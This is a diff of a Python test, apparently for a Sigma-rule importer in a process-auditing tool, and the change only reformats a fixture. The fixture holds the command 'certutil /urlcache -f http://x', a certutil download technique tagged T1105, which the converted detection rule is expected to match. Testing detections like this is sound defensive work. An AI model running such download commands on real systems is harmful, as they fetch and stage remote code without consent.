@@ -61,8 +61,12 @@ def test_import_sigma_converts_and_reports(tmp_path: Path) -> None:
     assert any("ParentCommandLine" in u for u in bad.unsupported)
     rule = load_rule_file(Path(ok.output or ""))
     assert rule.rule.enabled is False and rule.rule.mitre == ["T1105"] and rule.rule.author == "procaudit tests"
-    hit = {"NewProcessName": "C:\\Windows\\System32\\certutil.exe", "CommandLine": "certutil /urlcache -f http://x",
-           "MandatoryLabel": "S-1-16-12288", "ParentProcessName": "C:\\Windows\\explorer.exe"}
+    hit = {
+        "NewProcessName": "C:\\Windows\\System32\\certutil.exe",
+        "CommandLine": "certutil /urlcache -f http://x",
+        "MandatoryLabel": "S-1-16-12288",
+        "ParentProcessName": "C:\\Windows\\explorer.exe",
+    }
     assert rule.predicate(make_event(hit, event_version=2))
     assert not rule.predicate(make_event({**hit, "ParentProcessName": "C:\\x\\deploy.exe"}, event_version=2))
     assert not rule.predicate(make_event({**hit, "MandatoryLabel": "S-1-16-8192"}, event_version=2))
